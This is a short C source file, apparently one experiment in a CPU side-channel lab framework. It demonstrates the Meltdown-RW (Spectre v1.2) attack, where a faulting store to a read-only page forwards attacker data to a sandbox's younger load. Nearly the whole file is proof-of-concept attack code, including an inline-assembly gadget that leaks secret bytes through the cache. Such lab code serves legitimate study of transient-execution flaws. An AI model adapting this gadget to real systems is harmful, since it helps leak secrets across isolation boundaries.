/*
 * Meltdown-RW (Spectre v1.2): a store to a read-only page faults, but younger loads get its data first.
 *
 * A sandbox follows the pointer in a read-only page, which nobody can change. The attacker stores to it all the same;
 * before the fault is delivered the sandbox's own load takes the pointer from the store queue.
 */
#include "lab.h"

static const char ABOUT[] = "nobody through the sandbox: the pointer it follows is read-only";

static u8 open_text[LINE] __attribute__((aligned(LINE)));
static u8 secret[MOST] __attribute__((aligned(LINE)));
static const u8 **read_only;

static int prepare(u64 bytes)
{
    make_secret(secret, bytes);
    catch_faults();
    read_only = map(0, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
    if (failed(read_only))
        return 0;
    *read_only = open_text;
    SYSCALL(mprotect, read_only, PAGE, PROT_READ);
    ignored[open_text[0]] = 1;
    return 1;
}

static void attempt(u64 index)
{
    touch(secret + index);
    touch(read_only);
    flush_probe();
    FAULTING_ACCESS("mov %1, (%0)\n\t"
                    "mov (%0), %%rdx\n\t"
                    "movzbl (%%rdx), %%eax", read_only, secret + index);
}

static void done(void)
{
    say_value("faults", faults);
}
